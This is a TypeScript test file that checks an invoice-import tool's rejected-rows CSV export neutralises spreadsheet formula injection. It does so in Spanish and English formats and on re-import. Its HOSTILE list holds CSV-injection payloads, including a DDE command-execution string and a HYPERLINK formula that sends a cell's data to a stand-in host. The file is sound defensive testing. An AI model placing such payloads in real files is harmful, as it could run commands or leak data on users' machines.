import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Core } from '#core/app';
import { rejectsToCsv } from '#shared/domain/importReport';
import { freshCore } from '../../support/core';
import { csv } from '../../fixtures/imports/book';
import { runImport, withClients } from './helpers';

/** Issue 10 item 5 and issue 9 item 19: the rejected-rows CSV, read back as a spreadsheet would. */
const HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?q="&A1,"ver")', '+1+1', '@SUM(1)', '\t=1', ' =1', '＝1+1', '＋1', '－1', '＠SUM(1)', '-2+3'];

let core: Core;
beforeEach(async () => {
  core = await freshCore({ locale: 'es-PE' });
  await withClients(core);
});
afterEach(async () => {
  await core.close();
});

async function rejected() {
  const rows = HOSTILE.map((h, i) => ['C9', `F-${i}`, '2026-01-05', '10', h]);
  const { report } = await runImport(core, 'invoices', csv([['client_code', 'number', 'issue_date', 'amount', 'description'], ...rows]));
  expect(report!.counts.rejected).toBe(HOSTILE.length);
  return report!;
}

describe('the rejected-rows CSV', () => {
  it('in Spanish: ";" separated, translated headers and reasons, formula cells neutralised', async () => {
    const report = await rejected();
    const text = rejectsToCsv(report, { bom: true, locale: 'es-PE' });
    expect(text.startsWith('\uFEFF')).toBe(true);
    const back = parse(text, { bom: true, delimiter: ';', relax_column_count: false }) as string[][];
    expect(back[0]).toEqual(['Línea', 'Motivo', 'Mensaje', 'client_code', 'number', 'issue_date', 'amount', 'description']);
    expect(back.slice(1).map((r) => r.slice(0, 3))).toEqual(HOSTILE.map((_, i) => [String(i + 2), 'Cliente desconocido', 'Cliente desconocido C9.']));
    // a spreadsheet would run none of them: each starts with an apostrophe and is otherwise as written
    expect(back.slice(1).map((r) => r[7])).toEqual(HOSTILE.map((h) => `'${h}`));
    for (const row of back) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]/);
  });

  it('in English: the comma format with reason codes, as before, and neutralised too', async () => {
    const report = await rejected();
    const back = parse(rejectsToCsv(report), { delimiter: ',' }) as string[][];
    expect(back[0]!.slice(0, 3)).toEqual(['line', 'reason', 'message']);
    expect(back[1]!.slice(0, 2)).toEqual(['2', 'unknown_client']);
    expect(back.slice(1).map((r) => r[7])).toEqual(HOSTILE.map((h) => `'${h}`));
  });

  it("fixed and imported again, the rows store what the original file said (the apostrophes are the writer's)", async () => {
    const report = await rejected();
    const fixed = rejectsToCsv(report, { locale: 'es-PE' }).replace(/;C9;/g, ';C1;');
    const { report: again } = await runImport(core, 'invoices', fixed);
    expect(again!.counts).toMatchObject({ rejected: 0, created: HOSTILE.length });
    const stored = core.ctx.sqlite.prepare('SELECT description AS d FROM invoices ORDER BY id').all() as { d: string }[];
    const direct = await freshCore({ locale: 'es-PE' });
    await withClients(direct);
    await runImport(
      direct,
      'invoices',
      csv([['client_code', 'number', 'issue_date', 'amount', 'description'], ...HOSTILE.map((h, i) => ['C1', `F-${i}`, '2026-01-05', '10', h])]),
    );
    expect(stored).toEqual(direct.ctx.sqlite.prepare('SELECT description AS d FROM invoices ORDER BY id').all());
    await direct.close();
  });
});
